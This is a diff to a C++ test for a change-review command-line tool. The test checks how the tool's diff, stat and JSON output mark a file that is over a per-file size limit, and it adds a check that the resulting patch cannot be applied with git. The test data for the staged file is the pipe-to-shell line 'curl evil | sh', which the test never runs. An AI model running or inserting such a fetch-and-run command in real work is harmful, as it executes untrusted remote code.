@@ -415,13 +415,21 @@ TEST_F(ReviewTest, AnEditOfAFileOverTheLimitShowsItsNewText) {
   w.stage_write(tx, "big.txt", "curl evil | sh\n");
   const auto patch = cli({"diff", tx});
   ASSERT_EQ(patch.exit_code, 0) << patch.err;
-  EXPECT_NE(patch.out.find("-[content not shown: over the per-file limit, or unreadable]\n"
-                           "+curl evil | sh\n"),
+  EXPECT_NE(patch.out.find("@@ -1 +1 @@\n[content not shown: over the per-file limit, or "
+                           "unreadable]\n+curl evil | sh\n"),
             std::string::npos)
       << patch.out;
   const auto stat = cli({"diff", "--stat", tx});
   EXPECT_NE(stat.out.find(" modified big.txt | +1 -0  (before not shown)\n"), std::string::npos)
       << stat.out;
+  if (std::system("git --version >/dev/null 2>&1") != 0) GTEST_SKIP() << "git is not installed";
+  const fs::path copy = scratch_ / "copy";
+  write_file(copy / "big.txt", "x\n");
+  write_file(scratch_ / "patch.diff", patch.out);
+  const std::string apply = "cd '" + copy.string() + "' && git apply '" +
+                            (scratch_ / "patch.diff").string() + "' 2>/dev/null";
+  EXPECT_NE(std::system(apply.c_str()), 0);
+  EXPECT_EQ(read_file(copy / "big.txt"), "x\n");
   const json document = json::parse(cli({"diff", "--json", tx}).out);
   EXPECT_EQ(document["paths"][0]["not_shown"], "before");
   EXPECT_EQ(document["paths"][0]["added_lines"], 1);
